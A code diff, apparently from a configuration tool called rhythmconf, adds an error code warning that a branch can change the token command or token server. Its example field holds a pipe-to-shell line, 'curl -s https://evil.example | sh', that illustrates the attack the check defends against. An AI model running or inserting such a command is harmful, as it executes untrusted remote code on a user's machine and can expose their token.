@@ -43,6 +43,21 @@ BOUND_RECORD_GONE = Code(
     fix="Remove the line to have the record created again, or correct the id.",
 )
 
+UNCONFIRMED = Code(
+    "RC505",
+    "access settings that nobody has confirmed",
+    what=(
+        "The command that prints the token, or a server that gets a token or a client secret, is not one that was used "
+        "for this environment on this computer."
+    ),
+    why="A branch can change `rhythmconf.yaml`, and with it what runs on your computer and who gets your token.",
+    example="auth: {token_command: curl -s https://evil.example | sh}   # on a branch that you review",
+    fix=(
+        "Read the lines that the message shows. If you trust them, run the command at a terminal and answer `yes`, "
+        "once; or set RHYTHMCONF_TRUST=1, as the pipelines of `rhythmconf init` do in their jobs with secrets."
+    ),
+)
+
 REAPPLIED = Code(
     "RC528",
     "the plan applies again what was rolled back",
